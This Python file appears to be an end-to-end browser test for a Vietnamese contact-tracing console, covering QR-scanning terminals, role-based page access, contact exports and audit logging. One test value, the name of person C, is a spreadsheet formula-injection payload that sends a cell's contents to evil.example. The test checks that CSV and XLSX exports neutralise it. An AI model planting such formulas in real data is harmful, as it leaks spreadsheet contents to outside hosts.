"""The console end to end in a real browser (Playwright, Debian's chromium, a 375 px phone screen,
Vietnamese), against a real collector fed by a real Mosquitto and three real terminals.

Each terminal is the daemon (device.daemon.Terminal built from its config: gpiozero MockFactory pins,
scanner.source = "files" over real QR PNGs of signed native declarations made with `chot issue`'s
functions, personal parts sealed to the collector, its own MQTT uplink). Two people (A and B, and C
whose name is a spreadsheet formula) pass the market's gates within seconds of each other: contacts.
D passes the station, where a bare ID number (an unsigned claim) is refused.

Once the collector has stored every event (by count): a tracer opens a case for A, finds A by ID
number and by phone, sees A's timeline, lists the contacts (B with name and phone), exports CSV and
XLSX through the browser (B present, formula cells neutralised), marks B notified and signs out;
checkpoint staff enter a paper declaration at their checkpoint and get the 403 page on /person, /cases
and /traffic; a ward officer sees only the terminals of their checkpoint; a viewer sees the fleet
online and the traffic counts matching, and nobody's personal data on any page they reach; an admin
reads the tracer's reads in the audit log under the case number.
Screenshots of each page: tests/output/<test name>/.
"""

import csv
import io
import json
import threading
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import openpyxl
from browser import fits_phone, shot, sign_in
from uplink_helpers import terminal_cfg, wait_until
from web_helpers import PASSWORD, Console

from chotdemo.testing import collector_config, make_keys
from collector.signing import keygen
from collector.storage import parse_time
from collector.subscriber import Collector
from collector.web import WebServer
from collector.web.accounts import Accounts, Role
from device.credentials import keys as issuer_keys
from device.credentials.issue_cli import issue_declaration, render
from device.daemon import Terminal

ZONE = ZoneInfo("Asia/Ho_Chi_Minh")  # the console's default zone
MARKET, STATION = "cho-ben-thanh", "ga-sai-gon"
CASE = "HCM-2026-1206-01"
FAST_FEEDBACK = {
    "pass_led_s": 0.05, "pass_beeps": 1, "pass_beep_s": 0.01, "relay_s": 0.05,
    "fail_led_s": 0.05, "fail_beeps": 1, "fail_beep_s": 0.01,
    "unreadable_blinks": 1, "unreadable_beep_s": 0.02, "unreadable_blink_s": 0.02,
}
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def _person(n, name, phone, **kw):
    p = {"id_number": f"0791900777{n:02d}", "name": name, "dob": "1990-03-14", "phone": phone}
    p.update(kw)
    return p


A = _person(1, "Nguyễn Văn Ân", "0912777001")  # as a CHOT2 declaration carries it
B = _person(2, "Trần Thị Bình", "0912777002")
C = _person(3, EVIL_NAME, "0912777003")
D = _person(4, "Phạm Minh Dũng", "0912777004")
PAPER = _person(5, "Lê Thị Giấy", "0912 777 005")
PEOPLE = (A, B, C, D, PAPER)
BARE_ID = "079190077799"  # a bare ID number shown at the station: an unsigned claim, refused

# terminal id -> (checkpoint, direction, the people it sees in order; a str is a bare QR text)
TERMINALS = {
    "gate-1-in": (MARKET, "in", [A, B, C]),
    "gate-1-out": (MARKET, "out", [A, B]),
    "gate-2-in": (STATION, "in", [D, BARE_ID]),
}
N_EVENTS = sum(len(seen) for _, _, seen in TERMINALS.values())


def _frames(folder, texts, tmp):
    """The camera's frames: each QR (a `chot issue` PNG) pasted on a grey 640x480 frame, shown twice,
    then an empty frame."""
    from PIL import Image

    folder.mkdir(parents=True)
    n = 0
    for i, text in enumerate(texts):
        png, _ = render(text, tmp, f"qr-{folder.name}-{i}", scale=4)
        code = Image.open(png).convert("L")
        frame = Image.new("L", (640, 480), 150)
        frame.paste(code, ((640 - code.width) // 2, (480 - code.height) // 2))
        for img in (frame, frame, Image.new("L", (640, 480), 150)):
            img.save(folder / f"f-{n:03d}.png")
            n += 1
    return n


def _terminal(tmp_path, port, device_id, issuer_pub, seal_pub, issuer, collector_pub):
    checkpoint, direction, seen = TERMINALS[device_id]
    now = datetime.now(UTC)
    texts = [s if isinstance(s, str) else issue_declaration(issuer, s, issued_at=now - timedelta(minutes=5))
             for s in seen]
    n = _frames(tmp_path / f"frames-{device_id}", texts, tmp_path / "qr")
    cfg = terminal_cfg(tmp_path, port, device_id=device_id, status_interval_s=2.0,
                       collector_public_key=str(collector_pub), sections={
        "device": {"checkpoint": checkpoint, "direction": direction},
        "scanner": {"source": "files", "path": str(tmp_path / f"frames-{device_id}"), "cooldown_s": 60.0},
        "pins": {"factory": "mock", "relay": "GPIO23", "button": "GPIO24"},
        "feedback": dict(FAST_FEEDBACK),
        "policy": {"trusted_issuers": [str(issuer_pub)]},
        "privacy": {"seal_public_key": str(seal_pub)},
    })
    return Terminal.from_config(cfg), n


def _texts(page):
    """What a user can read on the page: its text and its HTML (attributes, hidden fields)."""
    return page.inner_text("body") + "\n" + page.content()


def test_console_end_to_end_on_a_collector_fed_by_terminals(tmp_path, broker, page):
    make_keys(tmp_path / "keys")
    signing_key, signing_pub = keygen(tmp_path / "signing")  # acks and lists signed, the key pinned on terminals
    cfg = collector_config(f"sqlite:///{tmp_path}/collector.db", port=broker.port, key_dir=tmp_path / "keys",
                           collector={"signing_key": str(signing_key)}, http={"enabled": True, "port": 0})
    issuer = issuer_keys.generate("ed25519")
    _priv, issuer_pub = issuer_keys.save_keypair(issuer, tmp_path / "issuer")
    terms, threads = [], []
    with Collector(cfg) as col:
        col.wait_subscribed(10)
        with col.storage.connection():
            col.storage.replace_bindings({d: (cp, direction) for d, (cp, direction, _) in TERMINALS.items()}, "test")
            acc = Accounts(col.storage)
            acc.add_user("tracer", PASSWORD, Role.TRACER)
            acc.add_user("staff", PASSWORD, Role.CHECKPOINT_STAFF, [MARKET])
            acc.add_user("officer", PASSWORD, Role.WARD_OFFICER, [STATION])
            acc.add_user("viewer", PASSWORD, Role.VIEWER)
            acc.add_user("admin", PASSWORD, Role.ADMIN)
        col.bindings.refresh(force=True)
        server = None
        try:
            for device_id in TERMINALS:
                term, frames = _terminal(tmp_path, broker.port, device_id, issuer_pub,
                                         tmp_path / "keys" / "seal.pub", issuer, signing_pub)
                terms.append(term)
                threads.append(threading.Thread(target=term.run, kwargs={"max_frames": frames}, daemon=True))
            for t in threads:
                t.start()
            for t in threads:
                t.join(60)
                assert not t.is_alive(), "a terminal did not get through its frames"
            E = col.storage.Event

            def stored():
                with col.storage.connection():
                    return E.select().where(E.source == "camera").count()

            assert wait_until(lambda: stored() >= N_EVENTS, timeout=60), f"stored {stored()} of {N_EVENTS}"
            for term in terms:  # every event acked: nothing left in an outbox
                assert term.link.wait_acked(len(TERMINALS[term.cfg.device.id][2]), 30), term.cfg.device.id
            assert wait_until(lambda: sum(bool(d.get("online")) for d in col.storage.devices()) == len(TERMINALS),
                              timeout=30)
            server = WebServer(cfg, col.storage, collector=col).start()
            console = Console(server.url, cfg, col.storage, server.app.state.web.accounts, server)
            _tracer(page, console, tmp_path)
            _staff(page, console)
            _officer(page, console)
            with col.storage.connection():  # the local day of the scans (the traffic page's day)
                first = E.select(E.time).where(E.source == "camera").order_by(E.time).first().time
            day = parse_time(first).replace(tzinfo=UTC).astimezone(ZONE).date()
            _viewer(page, console, day)
            _admin(page, console)
        finally:
            if server is not None:
                server.stop()
            for term in terms:
                term.close()
    with col.storage.connection():
        assert stored() == N_EVENTS  # one event per person per terminal, nothing twice
        paper = list(E.select().where(E.source == "paper"))
    assert [(p.checkpoint, p.direction) for p in paper] == [(MARKET, "in")]


def _sign_out(page, console):
    page.goto(console.url + "/")
    page.click("button:has-text('Đăng xuất')")
    page.wait_for_url(console.url + "/login*")


def _tracer(page, console, tmp_path):
    url = console.url
    sign_in(page, console, "tracer")
    shot(page, "tracer-home")
    # open a case for A, by A's ID number
    page.click("nav a:has-text('Ca bệnh')")
    page.wait_for_url(url + "/cases")
    page.fill("#number", CASE)
    page.fill("#person", A["id_number"])
    page.fill("#reason", "Xét nghiệm dương tính")
    assert fits_phone(page)
    shot(page, "tracer-cases")
    page.click("form[action='/cases'] button[type=submit]")
    page.wait_for_url(f"{url}/cases/{CASE}")
    assert CASE in page.locator("h1").inner_text()
    assert fits_phone(page)
    shot(page, "tracer-case")
    # A's timeline: the market's two gates, verified, in local time
    page.click("text=Các lượt qua chốt của ca nguồn")
    page.wait_for_selector("section.person h2")
    assert A["name"] in page.locator("section.person h2").inner_text()
    rows = page.locator("section.person table tbody tr")
    assert rows.count() == 2
    timeline = page.locator("section.person").inner_text()
    assert MARKET in timeline
    shot(page, "tracer-person-timeline")
    # find A by ID number, then by phone (written another way), within the case
    for q in (A["id_number"], "+84 912 777 001"):
        page.goto(f"{url}/person")
        page.select_option("#case", CASE)
        page.fill("#q", q)
        page.click("form[action='/person'] button[type=submit]")
        page.wait_for_selector("section.person h2")
        assert A["name"] in page.locator("section.person h2").inner_text()
        assert page.locator("section.person table tbody tr").count() == 2
    assert fits_phone(page)
    shot(page, "tracer-person-by-phone")
    # the contacts of the case: B and C (the market, seconds apart), never D (the station)
    page.goto(f"{url}/cases/{CASE}")
    page.fill("#days", "1")
    page.fill("#window", "15")
    page.click("form.row-form button[type=submit]")
    page.wait_for_url(f"{url}/cases/{CASE}/contacts?*")
    table = page.locator("table.contacts tbody")
    table.locator("tr").first.wait_for()
    text = table.inner_text()
    assert B["name"] in text and B["phone"] in text
    assert D["name"] not in text and D["phone"] not in text and A["name"] not in text
    assert table.locator("tr").count() == 2
    assert fits_phone(page)
    shot(page, "tracer-contacts")
    # exports, downloaded by the browser: B present, no cell a formula
    with page.expect_download() as dl:
        page.click("text=Xuất CSV")
    csv_path = tmp_path / "contacts.csv"
    dl.value.save_as(csv_path)
    cells = [c for r in csv.reader(io.StringIO(csv_path.read_text("utf-8-sig"), newline="")) for c in r]
    assert B["name"] in cells and any(B["phone"] in c for c in cells)
    assert "'" + EVIL_NAME in cells and EVIL_NAME not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    with page.expect_download() as dl:
        page.click("text=Xuất XLSX")
    xlsx_path = tmp_path / "contacts.xlsx"
    dl.value.save_as(xlsx_path)
    ws = openpyxl.load_workbook(xlsx_path).active
    xcells = [c for r in ws.iter_rows() for c in r]
    assert B["name"] in [c.value for c in xcells] and not [c for c in xcells if c.data_type == "f"]
    risky = [c for c in xcells if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@")]
    assert [c.value for c in risky] == [EVIL_NAME]  # kept as typed, an inert text cell shown as typed
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)
    # mark B notified
    row = page.locator("table.contacts tbody tr", has_text=B["name"])
    row.locator("button", has_text="Đánh dấu đã báo").click()
    row = page.locator("table.contacts tbody tr", has_text=B["name"])
    row.locator("text=đã báo").first.wait_for()
    assert "tracer" in row.inner_text() and row.locator("button").count() == 0
    shot(page, "tracer-contacts-notified")
    _sign_out(page, console)
    shot(page, "signed-out")
    page.goto(f"{url}/cases/{CASE}/contacts")  # signed out: back to the login form
    assert "/login" in page.url and B["name"] not in page.content()


def _forbidden(page, console, paths):
    for path in paths:
        r = page.goto(console.url + path)
        assert r.status == 403, f"{path}: {r.status}"
        body = _texts(page)
        for p in PEOPLE:
            assert p["name"] not in body and p["phone"] not in body


def _staff(page, console):
    sign_in(page, console, "staff")
    page.click("nav >> text=Khai báo giấy")
    page.wait_for_url(console.url + "/paper")
    assert page.locator("#checkpoint").input_value() == MARKET
    page.fill("#id_number", PAPER["id_number"])
    page.fill("#name", PAPER["name"])
    page.fill("#dob", PAPER["dob"])
    page.fill("#phone", PAPER["phone"])
    assert fits_phone(page)
    shot(page, "staff-paper-form")
    page.click("button:has-text('Ghi khai báo')")
    page.wait_for_selector("#recorded")
    assert MARKET in page.locator("#recorded").inner_text()
    shot(page, "staff-paper-recorded")
    _forbidden(page, console, ("/person", f"/person?case={CASE}&q={A['id_number']}", "/cases", f"/cases/{CASE}",
                               f"/cases/{CASE}/contacts", "/traffic", "/audit"))
    shot(page, "staff-forbidden")
    _sign_out(page, console)


def _officer(page, console):
    sign_in(page, console, "officer")
    page.goto(console.url + "/fleet")
    assert page.locator("#dev-gate-2-in").count() == 1
    assert page.locator("#dev-gate-1-in").count() == 0 and page.locator("#dev-gate-1-out").count() == 0
    shot(page, "officer-fleet")
    # the tracer's case at the market: none of its people's visits or contacts (not the officer's checkpoint)
    for path in (f"/person?case={CASE}&q={A['id_number']}", f"/cases/{CASE}/contacts?days=1&window=15"):
        page.goto(console.url + path)
        body = _texts(page)
        assert not [n for n in (A["name"], B["name"], B["phone"], MARKET) if n in body], path
    shot(page, "officer-market-case")
    # their own case, at the station: D's timeline
    page.goto(console.url + "/cases")
    page.fill("#number", CASE + "-GA")
    page.fill("#person", D["id_number"])
    page.fill("#reason", "Tiếp xúc tại ga")
    page.click("form[action='/cases'] button[type=submit]")
    page.wait_for_url(f"{console.url}/cases/{CASE}-GA")
    page.click("text=Các lượt qua chốt của ca nguồn")
    page.wait_for_selector("section.person h2")
    assert D["name"] in page.locator("section.person h2").inner_text()
    assert page.locator("section.person table tbody tr").count() == 1
    shot(page, "officer-person")
    _sign_out(page, console)


def _viewer(page, console, day):
    url = console.url
    sign_in(page, console, "viewer")
    seen = [_texts(page)]
    shot(page, "viewer-home")
    page.click("nav >> text=Thiết bị")
    page.wait_for_url(url + "/fleet")
    assert page.locator("#n-terminals").inner_text() == str(len(TERMINALS))
    assert page.locator("#n-online").inner_text() == str(len(TERMINALS))
    for device_id in TERMINALS:
        assert page.locator(f"#dev-{device_id} .on").count() == 1, f"{device_id} not shown online"
    seen.append(_texts(page))
    assert fits_phone(page)
    shot(page, "viewer-fleet")
    page.click("nav >> text=Lưu lượng")
    page.wait_for_url(url + "/traffic*")
    page.fill("#day", day.isoformat())
    page.click("button:has-text('Xem')")
    page.wait_for_url(f"{url}/traffic?day={day.isoformat()}*")
    # today's counts: three in at the market (and the paper declaration), two out; one in and one refused
    # at the station
    market = page.locator(f'section.checkpoint[data-checkpoint="{MARKET}"] tfoot th').all_text_contents()
    station = page.locator(f'section.checkpoint[data-checkpoint="{STATION}"] tfoot th').all_text_contents()
    assert market[1:] == ["4", "2", "0", "0"], market
    assert station[1:] == ["1", "0", "1", "0"], station
    assert page.locator("#total-in").inner_text() == "5" and page.locator("#total-out").inner_text() == "2"
    assert page.locator("#total-refused").inner_text() == "1"
    seen.append(_texts(page))
    assert fits_phone(page)
    shot(page, "viewer-traffic")
    for path in ("/api/fleet", "/api/stats", f"/api/traffic?day={day.isoformat()}"):
        r = page.goto(url + path)
        assert r.status == 200, f"{path}: {r.status}"
        seen.append(json.dumps(r.json(), ensure_ascii=False))
    _forbidden(page, console, ("/person", "/cases", f"/cases/{CASE}/contacts", f"/cases/{CASE}/contacts.csv",
                               "/paper", "/audit"))
    for body in seen:
        for p in PEOPLE:
            for needle in (p["name"], p["id_number"], p["phone"], p["phone"].replace(" ", "")):
                assert needle not in body, f"the viewer saw {needle!r}"
        assert BARE_ID not in body
    _sign_out(page, console)


def _admin(page, console):
    sign_in(page, console, "admin")
    page.goto(f"{console.url}/audit?case={CASE}")
    table = page.locator("table.audit").inner_text()
    assert "tracer" in table and CASE in table
    assert "contacts page 1" in table and "export (csv)" in table and "export (xlsx)" in table
    assert "notified" in table
    assert fits_phone(page)
    shot(page, "admin-audit")
    _sign_out(page, console)
